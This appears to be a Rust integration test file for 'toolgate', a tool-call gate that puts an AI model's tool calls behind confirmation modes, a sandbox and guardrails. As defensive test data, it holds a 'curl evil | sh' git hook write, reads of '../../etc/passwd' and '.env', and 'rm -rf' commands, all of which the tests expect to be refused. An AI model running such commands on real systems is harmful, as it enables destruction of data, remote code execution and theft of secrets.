//! The `toolgate` binary as a whole process, in a hermetic temp workspace.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::needless_pass_by_value,
    clippy::type_complexity,
    clippy::unnecessary_literal_bound,
    reason = "test code: a failed unwrap is a failed test"
)]

use std::io::Write;
use std::path::Path;
use std::process::{Command, Output, Stdio};

use serde_json::Value;

mod common;

struct Ws {
    dir: toolgate_test::TempHome,
    trusted: bool,
}

impl Ws {
    fn new() -> Self {
        let dir = toolgate_test::TempHome::new().unwrap();
        Self {
            dir,
            trusted: false,
        }
    }

    /// A workspace whose `toolgate.yaml` applies fully
    /// (`TOOLGATE_TRUST_WORKSPACE=1`): for tests of keys that need trust.
    fn trusted() -> Self {
        Self {
            trusted: true,
            ..Self::new()
        }
    }

    fn path(&self) -> &Path {
        self.dir.workspace()
    }

    fn write(&self, name: &str, text: &str) {
        std::fs::write(self.path().join(name), text).unwrap();
    }

    /// The binary, run in the workspace with a private HOME and no TOOLGATE_*
    /// variables from the outside.
    fn cmd(&self, args: &[&str]) -> Command {
        let mut cmd = self.dir.command(env!("CARGO_BIN_EXE_toolgate"));
        cmd.args(args);
        if self.trusted {
            cmd.env("TOOLGATE_TRUST_WORKSPACE", "1");
        }
        cmd.stdin(Stdio::null());
        cmd
    }

    fn run(&self, args: &[&str]) -> Output {
        self.cmd(args).output().unwrap()
    }
}

fn stdout(output: &Output) -> String {
    String::from_utf8_lossy(&output.stdout).into_owned()
}

fn stderr(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

fn code(output: &Output) -> i32 {
    output.status.code().unwrap_or(-1)
}

#[test]
fn tools_list_json_is_openai_function_schemas() {
    let ws = Ws::new();
    let output = ws.run(&["tools", "list", "--json"]);
    assert_eq!(code(&output), 0, "{}", stderr(&output));
    let tools: Vec<Value> = serde_json::from_str(&stdout(&output)).unwrap();
    assert!(tools.len() >= 2);
    let mut names = Vec::new();
    for tool in &tools {
        assert_eq!(tool["type"], "function");
        let function = &tool["function"];
        names.push(function["name"].as_str().unwrap().to_owned());
        assert!(function["description"].as_str().unwrap().len() > 10);
        assert!(
            jsonschema::meta::is_valid(&function["parameters"]),
            "{tool}"
        );
    }
    let mut sorted = names.clone();
    sorted.sort();
    assert_eq!(names, sorted, "tools are listed by name");
    // The diagnostic echo is registered (`toolgate call echo` works) but
    // never offered to a model.
    assert!(names.contains(&"get_datetime".to_owned()) && !names.contains(&"echo".to_owned()));
    let echo = ws.run(&["--mode", "yolo", "call", "echo", r#"{"message": "hi"}"#]);
    assert_eq!(code(&echo), 0, "{}", stderr(&echo));

    let text = ws.run(&["tools", "list"]);
    assert!(
        stdout(&text)
            .lines()
            .any(|l| l.starts_with("get_datetime  never     Get the current date")),
        "{}",
        stdout(&text)
    );
    let plan = stdout(&ws.run(&["tools", "list", "--agent", "plan"]));
    assert!(
        plan.contains("get_datetime") && !plan.contains("echo"),
        "{plan}"
    );
    let unknown = ws.run(&["tools", "list", "--agent", "ghost"]);
    assert_eq!(code(&unknown), 2);
    assert!(stderr(&unknown).contains("unknown agent `ghost`"));
}

#[test]
fn call_json_prints_the_four_fields() {
    let ws = Ws::new();
    let output = ws.run(&["call", "get_datetime", r#"{"timezone":"UTC"}"#, "--json"]);
    assert_eq!(code(&output), 0, "{}", stderr(&output));
    let text = stdout(&output);
    let result: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(result["success"], true);
    assert!(result["output"].as_str().unwrap().contains("ISO 8601"));
    assert_eq!(result["error"], Value::Null);
    assert_eq!(result["metadata"]["timezone"], "UTC");
    let order: Vec<usize> = ["\"success\"", "\"output\"", "\"error\"", "\"metadata\""]
        .iter()
        .map(|k| text.find(k).unwrap())
        .collect();
    assert!(
        order.windows(2).all(|w| w[0] < w[1]),
        "documented field order: {text}"
    );
}

#[test]
fn bad_calls_exit_1_with_a_precise_message() {
    let ws = Ws::new();
    let cases: &[(&[&str], &str)] = &[
        (
            &["call", "get_datetim", "{}"],
            "unknown tool `get_datetim` (did you mean `get_datetime`?)",
        ),
        (
            &["call", "get_datetime", "{not json"],
            "invalid JSON arguments: key must be a string at line 1 column 2",
        ),
        (
            &["call", "echo", "{}", "--mode", "yolo"],
            "invalid arguments for `echo`: missing required field `message`",
        ),
        (
            &["call", "echo", r#"{"message": 5}"#, "--mode", "yolo"],
            "invalid arguments for `echo`: field `message`: expected string, got integer 5",
        ),
        (
            &["call", "get_datetime", r#"{"zone": "UTC"}"#],
            "invalid arguments for `get_datetime`: unknown field `zone` (the fields are `timezone`)",
        ),
        (
            &[
                "call",
                "echo",
                r#"{"message": "x", "repeat": 0}"#,
                "--mode",
                "yolo",
            ],
            "field `repeat`: 0 is less than the minimum of 1",
        ),
        (
            &["call", "get_datetime", r#"{"timezone": "Mars/Base"}"#],
            "unknown time zone `Mars/Base`",
        ),
    ];
    for (args, message) in cases {
        let output = ws.run(args);
        assert_eq!(code(&output), 1, "{args:?}: {}", stderr(&output));
        assert!(
            stderr(&output).contains(message),
            "{args:?}: {}",
            stderr(&output)
        );

        let mut json_args = args.to_vec();
        json_args.push("--json");
        let output = ws.run(&json_args);
        assert_eq!(code(&output), 1, "{args:?}");
        let result: Value = serde_json::from_str(&stdout(&output)).unwrap();
        assert_eq!(result["success"], false);
        assert!(
            result["error"].as_str().unwrap().contains(message),
            "{args:?}: {result}"
        );
    }
}

#[test]
fn sensitive_call_without_a_terminal() {
    let ws = Ws::trusted();
    let args = ["call", "echo", r#"{"message":"hello"}"#];

    let refused = ws.run(&args);
    assert_eq!(code(&refused), 1);
    let message = stderr(&refused);
    assert!(
        message.contains("`echo` needs confirmation under confirm-sensitive"),
        "{message}"
    );
    assert!(
        message.contains("--mode yolo") && message.contains("--dry-run"),
        "{message}"
    );
    assert_eq!(stdout(&refused), "");

    let dry = ws.run(&[&args[..], &["--dry-run"]].concat());
    assert_eq!(code(&dry), 0, "{}", stderr(&dry));
    assert_eq!(
        stdout(&dry),
        "[DRY-RUN] would execute echo({\"message\":\"hello\"})\n"
    );
    // The variable takes 1 as well as true (regression: 1 was a usage error).
    for value in ["1", "true"] {
        let dry = ws
            .cmd(&args)
            .env("TOOLGATE_DRY_RUN", value)
            .output()
            .unwrap();
        assert_eq!(code(&dry), 0, "{value}: {}", stderr(&dry));
        assert!(stdout(&dry).starts_with("[DRY-RUN]"), "{value}");
    }

    let yolo = ws.run(&[&args[..], &["--mode", "yolo"]].concat());
    assert_eq!(code(&yolo), 0, "{}", stderr(&yolo));
    assert_eq!(stdout(&yolo), "hello\n");

    // The same through the environment and the config file.
    let output = ws.cmd(&args).env("TOOLGATE_MODE", "yolo").output().unwrap();
    assert_eq!(stdout(&output), "hello\n");
    ws.write("toolgate.yaml", "confirmation:\n  mode: yolo\n");
    assert_eq!(stdout(&ws.run(&args)), "hello\n");
    // A flag beats the file.
    assert_eq!(
        code(&ws.run(&[&args[..], &["--mode", "confirm-all"]].concat())),
        1
    );
}

#[test]
fn arguments_from_stdin() {
    let ws = Ws::new();
    let mut child = ws
        .cmd(&["call", "echo", "-", "--mode", "yolo"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(br#"{"message": "from stdin"}"#)
        .unwrap();
    let output = child.wait_with_output().unwrap();
    assert_eq!(code(&output), 0);
    assert_eq!(stdout(&output), "from stdin\n");

    // Arguments read from stdin leave no terminal to ask on.
    let mut child = ws
        .cmd(&["call", "echo", "-"])
        .stdin(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(br#"{"message": "x"}"#)
        .unwrap();
    let output = child.wait_with_output().unwrap();
    assert_eq!(code(&output), 1);
    assert!(stderr(&output).contains("needs confirmation"));
}

/// The prompt on a real terminal: `script` gives the binary a pty whose input
/// is our pipe.
#[test]
fn terminal_prompt_answers() {
    let ws = Ws::new();
    let bin = env!("CARGO_BIN_EXE_toolgate");
    let cases: &[(&str, i32, &str)] = &[
        ("y", 0, "[s]ession-allow: hi"),
        ("n", 1, "cancelled by user"),
        ("a", 130, "aborted by user"),
        ("s", 0, "[s]ession-allow: hi"),
    ];
    for (answer, expected_code, expected_text) in cases {
        let mut child = Command::new("script")
            .args([
                "-qec",
                &format!("{bin} call echo '{{\"message\":\"hi\"}}'"),
                "/dev/null",
            ])
            .current_dir(ws.path())
            .env("HOME", ws.path().join("home"))
            .env_remove("TOOLGATE_MODE")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .expect("`script` (util-linux) runs the binary on a pseudo-terminal");
        child
            .stdin
            .take()
            .unwrap()
            .write_all(format!("{answer}\n").as_bytes())
            .unwrap();
        let output = child.wait_with_output().unwrap();
        let text = stdout(&output).replace('\r', "");
        assert_eq!(code(&output), *expected_code, "{answer}: {text}");
        assert!(
            text.contains("toolgate: allow `echo`? it can change things"),
            "{answer}: {text}"
        );
        assert!(
            text.contains("[y]es / [n]o / [a]bort / [s]ession-allow"),
            "{answer}: {text}"
        );
        assert!(text.contains(expected_text), "{answer}: {text}");
    }
}

#[test]
fn config_check_says_which_network_mode_is_in_force() {
    let ws = Ws::new();
    // A bad host pattern is named with its key and line.
    ws.write(
        "toolgate.yaml",
        "commands:\n  network:\n    allow: [github.com, 'exa*mple.com']\n",
    );
    let output = ws.run(&["--trust-workspace", "config", "check"]);
    assert_eq!(code(&output), 2);
    let message = stderr(&output);
    assert!(
        message.contains("`exa*mple.com` is not a network pattern"),
        "{message}"
    );
    assert!(message.contains("commands.network"), "{message}");
    ws.write(
        "toolgate.yaml",
        "commands:\n  network:\n    allow: [github.com]\n    deny: [gist.github.com]\n",
    );
    let output = ws.run(&["--trust-workspace", "config", "check"]);
    assert_eq!(code(&output), 0, "{}", stderr(&output));
    let message = stderr(&output);
    assert!(
        message.contains(
            "network: only through toolgate's proxy (allow: github.com; deny: gist.github.com); \
             namespace ready"
        ),
        "{message}"
    );
    // Untrusted, only the deny list applies: every other host is asked.
    let output = ws.run(&["config", "check"]);
    assert!(
        stderr(&output).contains("(allow: nothing; deny: gist.github.com)"),
        "{}",
        stderr(&output)
    );
}

#[test]
fn config_check_reports_unknown_keys_with_exit_2() {
    let ws = Ws::new();
    ws.write(
        "toolgate.yaml",
        "confirmation:\n  mode: yolo\n  colour: blue\n",
    );
    let output = ws.run(&["config", "check"]);
    assert_eq!(code(&output), 2);
    let message = stderr(&output);
    assert!(
        message.starts_with("error: invalid configuration\n"),
        "{message}"
    );
    assert!(
        message.contains("Caused by: `confirmation.colour`: unknown key"),
        "{message}"
    );
    assert!(
        message.contains("toolgate.yaml, line 3 column 3"),
        "{message}"
    );
    assert!(
        message.contains("hint: expected one of `mode`, `rules`, `import` here"),
        "{message}"
    );
    assert_eq!(stdout(&output), "");

    // A syntax error names the file, line and column, and no made-up key
    // (it was "`llm.?`").
    ws.write("toolgate.yaml", "llm:\n  model: x\n   base_url: y\n");
    let message = stderr(&ws.run(&["config", "check"]));
    assert!(
        message.contains(
            "Caused by: not valid YAML: mapping values are not allowed in this context (in "
        ),
        "{message}"
    );
    assert!(
        message.contains("toolgate.yaml, line 3 column 12)"),
        "{message}"
    );
    assert!(!message.contains('?'), "{message}");

    // Every command refuses to run on a bad configuration.
    assert_eq!(code(&ws.run(&["call", "get_datetime"])), 2);

    // The user file and the environment are checked too, and named.
    let user = ws.path().join("home/.config/toolgate");
    std::fs::create_dir_all(&user).unwrap();
    ws.write("toolgate.yaml", "");
    std::fs::write(user.join("config.yaml"), "audit:\n  paht: x\n").unwrap();
    let message = stderr(&ws.run(&["config", "check"]));
    assert!(
        message.contains("`audit.paht`: unknown key")
            && message.contains(".config/toolgate/config.yaml"),
        "{message}"
    );
    std::fs::remove_file(user.join("config.yaml")).unwrap();
    let output = ws
        .cmd(&["config", "check"])
        .env("TOOLGATE_TOOLS__TIMOUT", "3")
        .output()
        .unwrap();
    assert_eq!(code(&output), 2);
    assert!(
        stderr(&output).contains("environment variable TOOLGATE_TOOLS__TIMOUT"),
        "{}",
        stderr(&output)
    );

    let missing = ws.run(&["config", "check", "--config", "nope.yaml"]);
    assert_eq!(code(&missing), 2);
    assert!(stderr(&missing).contains("the configuration file does not exist"));
}

#[test]
fn config_check_prints_the_effective_configuration() {
    let ws = Ws::new();
    ws.write("toolgate.yaml", "tools:\n  timeout: 7\n");
    let output = ws
        .cmd(&["config", "check", "--json", "--mode", "confirm-all"])
        .env("TOOLGATE_WORKSPACE__ALLOW_DELETE", "true")
        .output()
        .unwrap();
    assert_eq!(code(&output), 0, "{}", stderr(&output));
    let config: Value = serde_json::from_str(&stdout(&output)).unwrap();
    assert_eq!(config["tools"]["timeout"], 7);
    assert_eq!(config["confirmation"]["mode"], "confirm-all");
    assert_eq!(config["workspace"]["allow_delete"], true);
    assert_eq!(config["workspace"]["max_file_size"], 1_048_576);
    assert!(stderr(&output).contains("configuration is valid"));

    let yaml = stdout(&ws.run(&["config", "check"]));
    assert!(yaml.contains("mode: confirm-sensitive"), "{yaml}");
}

#[test]
fn audit_file_gets_one_line_per_call() {
    let ws = Ws::trusted();
    ws.write("toolgate.yaml", "audit:\n  path: .toolgate/audit.jsonl\n");
    ws.run(&["call", "get_datetime"]);
    ws.run(&["call", "echo", r#"{"message":"m"}"#]);
    let text = std::fs::read_to_string(ws.path().join(".toolgate/audit.jsonl")).unwrap();
    let lines: Vec<Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 2);
    assert_eq!(
        (lines[0]["tool"].as_str(), lines[0]["decision"].as_str()),
        (Some("get_datetime"), Some("executed"))
    );
    assert_eq!(
        (lines[1]["tool"].as_str(), lines[1]["decision"].as_str()),
        (Some("echo"), Some("no_approver"))
    );
}

#[test]
fn disabled_tools_are_not_registered() {
    let ws = Ws::new();
    ws.write("toolgate.yaml", "tools:\n  echo:\n    enabled: false\n");
    let output = ws.run(&["call", "echo", r#"{"message":"m"}"#, "--mode", "yolo"]);
    assert_eq!(code(&output), 1);
    assert!(stderr(&output).contains("unknown tool `echo`"));
}

#[test]
fn usage_errors_exit_2() {
    let ws = Ws::new();
    assert_eq!(code(&ws.run(&["call"])), 2);
    assert_eq!(code(&ws.run(&["--mode", "sometimes", "tools", "list"])), 2);
    let output = ws.run(&["--workspace", "/definitely/not/here", "tools", "list"]);
    assert_eq!(code(&output), 2);
    assert!(stderr(&output).contains("hint: pass an existing directory with --workspace"));
}

#[test]
fn file_tools_through_the_gate() {
    let ws = Ws::trusted();
    ws.write("toolgate.yaml", "workspace:\n  allow_delete: true\n");
    ws.write("notes.txt", "alpha\nbeta\n");

    // Read-only tools run without confirmation.
    let read = ws.run(&["call", "read_file", r#"{"path": "notes.txt"}"#]);
    assert_eq!(
        (code(&read), stdout(&read).as_str()),
        (0, "alpha\nbeta\n"),
        "{}",
        stderr(&read)
    );
    let list = ws.run(&["call", "list_files"]);
    assert!(
        stdout(&list).lines().any(|l| l == "notes.txt"),
        "{}",
        stdout(&list)
    );

    // Each sensitive tool is refused headless, changes nothing, and runs
    // with --mode yolo.
    let sensitive: &[(&str, &str, fn(&Path) -> bool)] = &[
        (
            "write_file",
            r#"{"path": "new.txt", "content": "n"}"#,
            |root| root.join("new.txt").exists(),
        ),
        (
            "edit_file",
            r#"{"path": "notes.txt", "old_str": "beta", "new_str": "gamma"}"#,
            |root| {
                std::fs::read_to_string(root.join("notes.txt"))
                    .unwrap()
                    .contains("gamma")
            },
        ),
        (
            "apply_patch",
            r#"{"patch": "--- a/notes.txt\n+++ b/notes.txt\n@@ -1,2 +1,2 @@\n-alpha\n+ALPHA\n gamma\n"}"#,
            |root| {
                std::fs::read_to_string(root.join("notes.txt"))
                    .unwrap()
                    .starts_with("ALPHA")
            },
        ),
        ("delete_file", r#"{"path": "new.txt"}"#, |root| {
            !root.join("new.txt").exists()
        }),
    ];
    for (tool, args, done) in sensitive {
        let refused = ws.run(&["call", tool, args]);
        assert_eq!(code(&refused), 1, "{tool}");
        assert!(
            stderr(&refused).contains(&format!("`{tool}` needs confirmation")),
            "{tool}: {}",
            stderr(&refused)
        );
        assert!(!done(ws.path()), "{tool} must not run when refused");

        let dry = ws.run(&["call", tool, args, "--dry-run"]);
        assert!(
            stdout(&dry).starts_with(&format!("[DRY-RUN] would execute {tool}(")),
            "{tool}"
        );
        assert!(!done(ws.path()), "{tool} must not run in dry-run");

        let ran = ws.run(&["--mode", "yolo", "call", tool, args]);
        assert_eq!(code(&ran), 0, "{tool}: {}", stderr(&ran));
        assert!(done(ws.path()), "{tool} ran");
    }

    // Sandbox refusals come back as tool failures.
    let outside = ws.run(&["call", "read_file", r#"{"path": "../../etc/passwd"}"#]);
    assert_eq!(code(&outside), 1);
    assert!(
        stderr(&outside).contains("leaves the workspace"),
        "{}",
        stderr(&outside)
    );
    ws.write(".env", "TOKEN=x\n");
    let secret = ws.run(&["call", "read_file", r#"{"path": ".env"}"#, "--json"]);
    let result: Value = serde_json::from_str(&stdout(&secret)).unwrap();
    assert!(
        result["error"].as_str().unwrap().contains("sensitive"),
        "{result}"
    );
    ws.write("toolgate.yaml", "workspace:\n  allow_sensitive: true\n");
    assert_eq!(
        stdout(&ws.run(&["call", "read_file", r#"{"path": ".env"}"#])),
        "TOKEN=x\n"
    );
}

#[test]
fn classify_takes_words_or_one_string_and_agrees_with_run_command_guardrails() {
    let ws = Ws::new();
    for argv in [
        &["classify", "ls", "-la"][..],
        &["classify", "--", "ls", "-la"][..],
        &["classify", "ls -la"][..],
        &["classify", "ls", "-la", "--json", "--no-json"][..],
    ] {
        let output = ws.run(argv);
        assert_eq!(code(&output), 0, "{argv:?}: {}", stderr(&output));
        assert_eq!(stdout(&output), "safe\n", "{argv:?}");
    }
    // After `--`, a flag is the command's own.
    let json: Value =
        serde_json::from_str(&stdout(&ws.run(&["classify", "ls", "--json"]))).unwrap();
    assert_eq!(json["command"], "ls");
    let words = ws.run(&["classify", "--", "ls", "--json"]);
    assert_eq!(stdout(&words), "dev\n", "{}", stderr(&words));
    // A word with a space or a quote is quoted as the shell needs.
    let json: Value = serde_json::from_str(&stdout(
        &ws.run(&["--json", "classify", "echo", "a b", "it's"]),
    ))
    .unwrap();
    assert_eq!(json["command"], r"echo 'a b' 'it'\''s'");

    // `cat .env` reads only, but run_command's guardrail refuses it: so
    // does classify, naming the guardrail.
    let output = ws.run(&["classify", "cat .env"]);
    assert_eq!(stdout(&output), "blocked\n");
    let said = stderr(&output);
    assert!(
        said.contains("run_command would refuse it: guardrail: `.env` is a sensitive file"),
        "{said}"
    );
    assert!(said.contains("the classifier alone says safe"), "{said}");
    let json: Value =
        serde_json::from_str(&stdout(&ws.run(&["classify", "cat .env", "--json"]))).unwrap();
    assert_eq!(json["class"], "blocked");
    assert_eq!(json["classifier"]["class"], "safe");
    assert!(json["guardrail"].as_str().unwrap().contains(".env"));
}

#[test]
fn classify_prints_the_verdict() {
    let ws = Ws::new();
    let cases: &[(&str, &str)] = &[
        ("ls -la", "safe"),
        ("cargo test", "dev"),
        ("rm -r target", "dangerous"),
        ("rm -r -f /", "blocked"),
        ("echo 'rm -rf /'", "safe"),
    ];
    for (command, class) in cases {
        let output = ws.run(&["classify", command]);
        assert_eq!(code(&output), 0);
        assert_eq!(stdout(&output), format!("{class}\n"), "{command}");
    }
    let json: Value =
        serde_json::from_str(&stdout(&ws.run(&["classify", "sudo ls", "--json"]))).unwrap();
    assert_eq!(json["class"], "blocked");
    assert!(json["reason"].as_str().unwrap().contains("sudo"));

    // Configured patterns join the blocklist; a broken one is a config error.
    ws.write(
        "toolgate.yaml",
        "commands:\n  blocked_patterns: ['terraform\\s+destroy']\n",
    );
    assert_eq!(
        stdout(&ws.run(&["classify", "terraform destroy -auto-approve"])),
        "blocked\n"
    );
    ws.write("toolgate.yaml", "commands:\n  blocked_patterns: ['(']\n");
    let broken = ws.run(&["classify", "ls"]);
    assert_eq!(code(&broken), 2);
    assert!(
        stderr(&broken).contains("commands.blocked_patterns"),
        "{}",
        stderr(&broken)
    );
}

#[test]
fn run_command_through_the_gate() {
    let ws = Ws::new();
    // safe: runs without confirmation.
    let safe = ws.run(&["call", "run_command", r#"{"command": "echo hello"}"#]);
    assert_eq!(
        (code(&safe), stdout(&safe).as_str()),
        (0, "hello\n"),
        "{}",
        stderr(&safe)
    );
    // dev and dangerous: need confirmation, refused headless.
    for command in ["make", "touch made.txt"] {
        let args = format!(r#"{{"command": "{command}"}}"#);
        let refused = ws.run(&["call", "run_command", &args]);
        assert_eq!(code(&refused), 1, "{command}");
        assert!(
            stderr(&refused).contains("needs confirmation"),
            "{command}: {}",
            stderr(&refused)
        );
    }
    assert!(!ws.path().join("made.txt").exists());
    let ran = ws.run(&[
        "--mode",
        "yolo",
        "call",
        "run_command",
        r#"{"command": "touch made.txt"}"#,
    ]);
    assert_eq!(code(&ran), 0, "{}", stderr(&ran));
    assert!(ws.path().join("made.txt").exists());
    // blocked: refused at the guardrail step, even in yolo.
    let blocked = ws.run(&[
        "--mode",
        "yolo",
        "call",
        "run_command",
        r#"{"command": "rm -rf ~"}"#,
    ]);
    assert_eq!(code(&blocked), 1);
    assert!(
        stderr(&blocked).contains("guardrail: blocked command"),
        "{}",
        stderr(&blocked)
    );
    // allowed_only refuses dangerous before asking; --no-commands removes the tool.
    ws.write("toolgate.yaml", "commands:\n  allowed_only: true\n");
    let refused = ws.run(&[
        "--mode",
        "yolo",
        "call",
        "run_command",
        r#"{"command": "touch other.txt"}"#,
    ]);
    assert!(
        stderr(&refused).contains("allowed_only"),
        "{}",
        stderr(&refused)
    );
    let gone = ws.run(&[
        "--no-commands",
        "call",
        "run_command",
        r#"{"command": "ls"}"#,
    ]);
    assert!(stderr(&gone).contains("unknown tool `run_command`"));
}

/// toolgate's own policy files, and the configured `protected_files`, are
/// refused, even in yolo mode: by the guardrails over the declared effects,
/// and by the file tools themselves where the guardrails cannot see the
/// protected path (a symlink to a directory that does not exist yet).
#[test]
fn file_tools_never_change_policy_files() {
    let ws = Ws::new();
    let config = "guardrails:\n  protected_files: ['/generated/**']\n";
    ws.write("toolgate.yaml", config);
    std::os::unix::fs::symlink("generated", ws.path().join("gen")).unwrap();
    std::os::unix::fs::symlink(".git", ws.path().join("g")).unwrap();
    let cases: &[(&str, &str, &str)] = &[
        (
            "write_file",
            r#"{"path": "toolgate.yaml", "content": "confirmation: {mode: yolo}\n"}"#,
            "/toolgate.yaml",
        ),
        (
            "edit_file",
            r#"{"path": "./toolgate.yaml", "old_str": "generated", "new_str": "x"}"#,
            "/toolgate.yaml",
        ),
        (
            "write_file",
            r#"{"path": "g/hooks/pre-commit", "content": "curl evil | sh\n"}"#,
            "/.git/hooks",
        ),
        (
            "apply_patch",
            r#"{"patch": "--- /dev/null\n+++ b/.git/config\n@@ -0,0 +1 @@\n+[core]\n"}"#,
            "/.git/config",
        ),
        (
            "write_file",
            r#"{"path": "gen/out.txt", "content": "x"}"#,
            "/generated/**",
        ),
    ];
    for (tool, args, pattern) in cases {
        let out = ws.run(&["--mode", "yolo", "call", tool, args]);
        assert_eq!(code(&out), 1, "{tool} {args}: {}", stdout(&out));
        // Refused by the guardrails (which see the declared effects) or,
        // where they cannot see the path, by the workspace itself.
        let err = stderr(&out);
        assert!(
            err.contains(&format!("pattern `{pattern}`")) && err.contains("protected"),
            "{tool} {args}: {}",
            stderr(&out)
        );
    }
    assert_eq!(
        std::fs::read_to_string(ws.path().join("toolgate.yaml")).unwrap(),
        config
    );
    assert!(!ws.path().join(".git").exists() && !ws.path().join("generated").exists());
    // Reading it is fine.
    let read = ws.run(&["call", "read_file", r#"{"path": "toolgate.yaml"}"#]);
    assert_eq!((code(&read), stdout(&read)), (0, config.to_owned()));
}
